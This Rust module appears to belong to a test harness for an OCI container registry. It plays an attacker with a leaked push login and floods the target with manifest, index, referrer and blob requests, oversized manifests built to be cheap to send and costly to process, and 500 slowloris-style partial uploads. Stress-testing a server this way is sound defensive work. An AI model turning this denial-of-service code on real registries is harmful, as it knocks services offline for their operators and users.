//! A push login that leaked: everything that it may do, as fast as it can.

use std::cell::RefCell;
use std::net::Ipv4Addr;
use std::rc::Rc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::LocalSet;

use super::ANSWERED;
use crate::content::random;
use crate::digest::sha256;
use crate::hostile::client::{Client, connect};
use crate::http::with_digest;
use crate::target::Target;

const FROM: Ipv4Addr = Ipv4Addr::new(127, 0, 3, 1);
const MANIFEST: &str = "application/vnd.oci.image.manifest.v1+json";
const INDEX: &str = "application/vnd.oci.image.index.v1+json";
const EMPTY: &str = "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a";

/// The descriptors of its indexes.
const CHILDREN: usize = 900;

/// The login, and what it has put so far.
struct Leaked {
    target: Target,
    children: RefCell<Vec<(String, usize)>>,
}

pub(super) fn abuse(local: &LocalSet, target: Target) {
    let leaked = Rc::new(Leaked { target, children: RefCell::default() });
    let begin = |work: fn(Rc<Leaked>, Client) -> Work| {
        local.spawn_local(work(Rc::clone(&leaked), Client::new(leaked.target.address, FROM)));
    };
    for _ in 0..2 {
        begin(|leaked, client| Box::pin(leaked.put_the_same(client)));
        begin(|leaked, client| Box::pin(leaked.move_a_tag(client)));
        begin(|leaked, client| Box::pin(leaked.put_new_ones(client)));
        begin(|leaked, client| Box::pin(leaked.put_indexes(client)));
        begin(|leaked, client| Box::pin(leaked.ask(client)));
        begin(|leaked, client| Box::pin(leaked.push_bytes(client)));
    }
    begin(|leaked, client| Box::pin(leaked.open_sessions(client)));
    begin(|leaked, client| Box::pin(leaked.put_large_ones(client)));
    begin(|leaked, client| Box::pin(leaked.hang_on(client)));
    for number in 0..500 {
        local.spawn_local(Rc::clone(&leaked).push_slowly(number));
    }
}

type Work = std::pin::Pin<Box<dyn Future<Output = ()>>>;

fn manifest(note: &str) -> serde_json::Value {
    json!({
        "schemaVersion": 2, "mediaType": MANIFEST, "artifactType": "application/x.note",
        "config": { "mediaType": "application/vnd.oci.empty.v1+json", "digest": EMPTY, "size": 2 },
        "layers": [], "annotations": { "note": note },
    })
}

impl Leaked {
    async fn put(&self, client: &mut Client, reference: &str, media_type: &str, body: &str) -> u16 {
        let headers = format!("Content-Type: {media_type}\r\nContent-Length: {}\r\n", body.len());
        let mut put = self.target.head("PUT", &format!("/v2/sr/manifests/{reference}"), &headers);
        put.extend_from_slice(body.as_bytes());
        self.send(client, &put).await
    }

    /// Sends a request, and waits for a moment after one that failed.
    async fn send(&self, client: &mut Client, request: &[u8]) -> u16 {
        let status = client.ask(request).await.map_or(0, |answer| answer.status);
        if status == 0 {
            tokio::time::sleep(Duration::from_millis(50)).await;
        } else {
            ANSWERED.fetch_add(1, Ordering::Relaxed);
        }
        status
    }

    async fn have_empty(&self, client: &mut Client) {
        let mut empty = self.target.head(
            "POST",
            &format!("/v2/sr/blobs/uploads/?digest={EMPTY}"),
            "Content-Length: 2\r\n",
        );
        empty.extend_from_slice(b"{}");
        self.send(client, &empty).await;
    }

    async fn put_the_same(self: Rc<Self>, mut client: Client) {
        self.have_empty(&mut client).await;
        let body = manifest("the same").to_string();
        loop {
            self.put(&mut client, "same", MANIFEST, &body).await;
        }
    }

    async fn move_a_tag(self: Rc<Self>, mut client: Client) {
        self.have_empty(&mut client).await;
        let bodies = [manifest("to").to_string(), manifest("fro").to_string()];
        loop {
            for body in &bodies {
                self.put(&mut client, "moved", MANIFEST, body).await;
            }
        }
    }

    async fn put_new_ones(self: Rc<Self>, mut client: Client) {
        self.have_empty(&mut client).await;
        loop {
            let body = manifest(&hex::encode(random(16).unwrap_or_default())).to_string();
            let digest = sha256(body.as_bytes());
            if self.put(&mut client, &digest, MANIFEST, &body).await == 201 {
                self.children.borrow_mut().push((digest, body.len()));
            }
        }
    }

    async fn put_indexes(self: Rc<Self>, mut client: Client) {
        loop {
            let children: Vec<_> = {
                let all = self.children.borrow();
                let last = all.iter().rev().take(CHILDREN);
                last.map(|(digest, size)| json!({ "mediaType": MANIFEST, "digest": digest, "size": size }))
                    .collect()
            };
            if children.len() < CHILDREN {
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            }
            let body = json!({
                "schemaVersion": 2, "mediaType": INDEX, "manifests": children,
                "annotations": { "note": hex::encode(random(16).unwrap_or_default()) },
            })
            .to_string();
            self.put(&mut client, &sha256(body.as_bytes()), INDEX, &body).await;
        }
    }

    async fn put_large_ones(self: Rc<Self>, mut client: Client) {
        self.have_empty(&mut client).await;
        // Only the beginning of the note changes. So a manifest costs the attacker little processor time, and the
        // server much.
        let mut note = "f".repeat(3_800_000);
        loop {
            note.replace_range(..32, &hex::encode(random(16).unwrap_or_default()));
            self.put(&mut client, "large", MANIFEST, &manifest(&note).to_string()).await;
        }
    }

    /// Hangs manifests on another, and asks for them.
    async fn hang_on(self: Rc<Self>, mut client: Client) {
        self.have_empty(&mut client).await;
        let subject = manifest("the same").to_string();
        let (subject, size) = (sha256(subject.as_bytes()), subject.len());
        let referrers = self.target.head("GET", &format!("/v2/sr/referrers/{subject}"), "");
        let mut note = "f".repeat(120_000);
        loop {
            note.replace_range(..32, &hex::encode(random(16).unwrap_or_default()));
            let mut body = manifest(&note);
            body["subject"] = json!({ "mediaType": MANIFEST, "digest": subject, "size": size });
            let body = body.to_string();
            self.put(&mut client, &sha256(body.as_bytes()), MANIFEST, &body).await;
            self.send(&mut client, &referrers).await;
        }
    }

    async fn ask(self: Rc<Self>, mut client: Client) {
        let layer = self.target.head("HEAD", &format!("/v2/sr/blobs/{EMPTY}"), "");
        let tag = self.target.head("HEAD", "/v2/sr/manifests/same", "");
        loop {
            for request in [&layer, &tag] {
                self.send(&mut client, request).await;
            }
        }
    }

    async fn push_bytes(self: Rc<Self>, mut client: Client) {
        let mut bytes = random(4 << 20).unwrap_or_default();
        loop {
            bytes[..16].copy_from_slice(&random(16).unwrap_or_default());
            let path = format!("/v2/sr/blobs/uploads/?digest={}", sha256(&bytes));
            let length = format!("Content-Length: {}\r\n", bytes.len());
            self.send(&mut client, &[self.target.head("POST", &path, &length), bytes.clone()].concat()).await;
        }
    }

    async fn open_sessions(self: Rc<Self>, mut client: Client) {
        let open = self.target.head("POST", "/v2/sr/blobs/uploads/", "Content-Length: 0\r\n");
        let Ok(answer) = client.ask(&open).await else { return };
        let bad = answer.location.map(|location| with_digest(&location, EMPTY));
        let bad = bad.map(|location| self.target.head("PUT", &location, "Content-Length: 0\r\n"));
        loop {
            self.send(&mut client, &open).await;
            if let Some(bad) = &bad {
                self.send(&mut client, bad).await;
            }
        }
    }

    /// Sends all bytes of a blob except the last one.
    async fn push_slowly(self: Rc<Self>, number: u32) {
        const SIZE: usize = 220 << 10;
        let path = format!("/v2/sr/blobs/uploads/?digest={EMPTY}");
        let mut part = self.target.head("POST", &path, &format!("Content-Length: {SIZE}\r\n"));
        part.resize(part.len() + SIZE - 1, b'a');
        tokio::time::sleep(Duration::from_millis(u64::from(number) * 5)).await;
        loop {
            if let Ok(mut stream) = connect(self.target.address, FROM).await
                && stream.write_all(&part).await.is_ok()
            {
                let mut answer = [0; 1];
                let _ = stream.read(&mut answer).await;
            }
            tokio::time::sleep(Duration::from_secs(3)).await;
        }
    }
}
